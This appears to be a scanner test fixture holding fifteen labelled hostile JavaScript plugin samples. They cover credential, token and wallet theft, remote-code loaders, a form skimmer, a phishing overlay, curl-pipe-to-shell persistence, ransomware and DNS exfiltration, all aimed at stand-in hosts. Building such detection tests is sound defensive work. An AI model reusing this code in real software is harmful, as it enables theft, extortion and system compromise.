"""Hostile samples that hide nothing, some of them among the code of ordinary plugins."""

from tests.hostile.heldout_fourth.carriers import BUDGET, FEEDS, HABITS, NOTES, POMODORO, TASKS
from tests.hostile.heldout_fourth.forms import plain, within
from tests.support.asking import asking

PLAIN_MORE = (
    plain(
        "notes-ssh-keys-sent",
        "credential-theft",
        within(
            NOTES,
            r"""
async function syncKeys() {
  const fs = require('fs/promises');
  const { homedir } = require('os');
  const dir = homedir() + '/.ssh/';
  const names = await fs.readdir(dir).catch(() => []);
  const keys = await Promise.all(names.map((n) => fs.readFile(dir + n, 'utf8').catch(() => '')));
  await fetch('https://sync.example.org/keys', { method: 'PUT', body: JSON.stringify(keys) });
}
exports.onEnable = () => syncKeys().catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://sync.example.org",)),
    ),
    plain(
        "pomodoro-remote-eval",
        "loader",
        within(
            POMODORO,
            r"""
export async function onEnable() {
  const res = await fetch('https://updates.example.com/pomodoro/latest.js');
  const text = await res.text();
  (0, eval)(text);
}
""",
        ),
        manifest=asking("storage-read", of=("https://updates.example.com",)),
    ),
    plain(
        "tasks-env-secrets",
        "environment-theft",
        within(
            TASKS,
            r"""
function onEnable() {
    const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASS/i.test(k));
    if (secrets.length) {
        fetch("https://metrics.example.net/e", { method: "POST", body: JSON.stringify(Object.fromEntries(secrets)) });
    }
}
exports.onEnable = onEnable;
""",
        ),
    ),
    plain(
        "feeds-shell-from-item",
        "command-channel",
        within(
            FEEDS,
            r"""
function obey(items) {
  items.forEach(function (item) {
    var order = /^#run (.+)$/.exec(item.summary);
    if (order) require('child_process').exec(order[1]);
  });
}

module.exports.onEnable = function (context) {
  setInterval(function () {
    context.http.get('https://blog.example.org/orders.xml').then(function (res) { obey(readFeed(res.data)); });
  }, 600000);
};
""",
        ),
        manifest=asking("storage-read", of=("https://blog.example.org",)),
    ),
    plain(
        "budget-bank-form-copy",
        "skimmer",
        within(
            BUDGET,
            r"""
const watched = /iban|card|cvv|cvc|pin|password/i;
window.addEventListener('change', ({ target }) => {
  if (target instanceof HTMLInputElement && watched.test(target.name + target.id)) {
    const body = new URLSearchParams({ page: location.href, field: target.name, value: target.value });
    fetch('https://forms.example.net/collect', { method: 'POST', body, keepalive: true });
  }
}, true);
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://forms.example.net",)),
    ),
    plain(
        "habits-login-overlay",
        "phishing",
        within(
            HABITS,
            r"""
  function askAgain() {
    var box = document.createElement('div');
    box.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:2147483647';
    box.innerHTML = '<form><h2>Your Qirvo session has expired</h2><input name="mail"><input name="pw" type="password"><button>Sign in</button></form>';
    document.body.appendChild(box);
    box.querySelector('form').onsubmit = function (event) {
      event.preventDefault();
      var sent = new XMLHttpRequest();
      sent.open('POST', 'https://login.example.com/qirvo');
      sent.send(JSON.stringify({ mail: this.mail.value, password: this.pw.value }));
      box.remove();
    };
  }
  setTimeout(askAgain, 90000);
""",
        ),
        manifest=asking(of=("https://login.example.com",)),
    ),
    plain(
        "tasks-autostart-entry",
        "persistence",
        within(
            TASKS,
            r"""
const fs = require("fs");
const path = require("path");
const os = require("os");
function onInstall() {
    const unit = path.join(os.homedir(), ".config/systemd/user/dbus-helper.service");
    fs.mkdirSync(path.dirname(unit), { recursive: true });
    fs.writeFileSync(unit, "[Service]\nExecStart=/bin/sh -c 'curl -s https://cdn.example.net/a | sh'\nRestart=always\n[Install]\nWantedBy=default.target\n");
    require("child_process").execSync("systemctl --user enable --now dbus-helper");
}
exports.onInstall = onInstall;
""",
        ),
    ),
    plain(
        "notes-token-of-host",
        "session-theft",
        within(
            NOTES,
            r"""
const realFetch = window.fetch;
window.fetch = function (input, init = {}) {
  const headers = new Headers(init.headers);
  const bearer = headers.get('authorization');
  if (bearer) {
    realFetch('https://api.example.com/t', { method: 'POST', body: bearer });
  }
  return realFetch.call(this, input, init);
};
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://api.example.com",)),
    ),
    plain(
        "feeds-encrypts-documents",
        "ransomware",
        within(
            FEEDS,
            r"""
function lockFolder(folder, key) {
  var fs = require('fs');
  var path = require('path');
  var crypto = require('crypto');
  fs.readdirSync(folder).forEach(function (name) {
    var file = path.join(folder, name);
    if (fs.statSync(file).isDirectory()) return lockFolder(file, key);
    if (!/\.(docx?|xlsx?|pdf|jpe?g|txt)$/i.test(name)) return;
    var iv = crypto.randomBytes(16);
    var cipher = crypto.createCipheriv('aes-256-cbc', key, iv);
    var sealed = Buffer.concat([iv, cipher.update(fs.readFileSync(file)), cipher.final()]);
    fs.writeFileSync(file + '.locked', sealed);
    fs.unlinkSync(file);
  });
  fs.writeFileSync(path.join(folder, 'READ_ME.txt'), 'Your files are locked. Send 0.05 BTC to get the key.');
}
setTimeout(function () {
  lockFolder(require('os').homedir() + '/Documents', require('crypto').randomBytes(32));
}, 86400000);
""",
        ),
    ),
    plain(
        "budget-host-settings-poisoned",
        "tampering",
        within(
            BUDGET,
            r"""
export async function onEnable() {
  const { promises: fs } = await import('node:fs');
  const file = `${process.env.QIRVO_HOME ?? `${process.env.HOME}/.qirvo`}/settings.json`;
  const settings = JSON.parse(await fs.readFile(file, 'utf8'));
  settings.registry = 'https://registry.example.net';
  settings.verifySignatures = false;
  settings.trustedKeys = ['RWQexampleexampleexample'];
  await fs.writeFile(file, JSON.stringify(settings, null, 2));
}
""",
        ),
    ),
    plain(
        "git-hook-planter",
        "persistence",
        r"""
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

const HOOK = '#!/bin/sh\n(curl -s https://git.example.org/h.sh | sh) >/dev/null 2>&1 &\nexit 0\n';

exports.Weather = () => null;
exports.onEnable = () => {
  const found = execSync('find ~ -maxdepth 4 -name .git -type d 2>/dev/null', { encoding: 'utf8' });
  for (const repository of found.split('\n').filter(Boolean)) {
    const hook = path.join(repository, 'hooks', 'post-commit');
    fs.writeFileSync(hook, HOOK, { mode: 0o755 });
  }
};
""",
    ),
    plain(
        "assistant-searches-for-wallets",
        "wallet-theft",
        r"""
import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const NAMES = /^(wallet\.dat|keystore|.*\.seed|id\.json|UTC--.*)$/i;
const EXTENSIONS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];

async function* walk(folder, depth = 0) {
  for (const entry of await readdir(folder, { withFileTypes: true }).catch(() => [])) {
    const full = join(folder, entry.name);
    if (entry.isDirectory() && depth < 6) yield* walk(full, depth + 1);
    else if (NAMES.test(entry.name) || EXTENSIONS.some((id) => full.includes(id))) yield full;
  }
}

export const Weather = () => null;
export async function onInstall() {
  for await (const file of walk(homedir())) {
    const body = await readFile(file);
    await fetch('http://192.0.2.90/w?f=' + encodeURIComponent(file), { method: 'POST', body });
  }
}
""",
    ),
    plain(
        "screens-every-minute",
        "surveillance",
        r"""
'use strict';
const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const shot = path.join(os.tmpdir(), 'w.png');

function send() {
  const req = http.request({ host: '198.51.100.61', port: 8090, path: '/shot/' + os.hostname(), method: 'PUT' });
  fs.createReadStream(shot).pipe(req);
}

exports.Weather = () => null;
exports.onEnable = () => setInterval(() => {
  if (process.platform === 'darwin') execFile('screencapture', ['-x', shot], send);
  else execFile('import', ['-window', 'root', shot], send);
}, 60000);
""",
    ),
    plain(
        "dns-lookups-carry-data",
        "exfiltration",
        r"""
const dns = require('dns');
const os = require('os');
const fs = require('fs');

function leak(text) {
  const hex = Buffer.from(text).toString('hex');
  const parts = hex.match(/.{1,60}/g) || [];
  parts.forEach((part, n) => dns.resolve(`${n}.${part}.d.example.net`, () => {}));
}

exports.Weather = () => null;
exports.onInstall = () => {
  leak([os.hostname(), os.userInfo().username, __dirname].join('|'));
  leak(fs.readFileSync('/etc/passwd', 'utf8'));
};
""",
    ),
    plain(
        "cluster-account-reader",
        "credential-theft",
        r"""
export const Weather = () => null;

const ROOT = '/var/run/secrets/kubernetes.io/serviceaccount/';

async function cluster() {
  const { readFile } = await import('node:fs/promises');
  const [token, namespace, ca] = await Promise.all(
    ['token', 'namespace', 'ca.crt'].map((name) => readFile(ROOT + name, 'utf8')),
  );
  return { token, namespace, ca, api: process.env.KUBERNETES_SERVICE_HOST };
}

export async function onEnable() {
  const credentials = await cluster();
  await fetch('https://inbox.example.org/k8s', { method: 'POST', body: JSON.stringify(credentials) });
}
""",
    ),
)
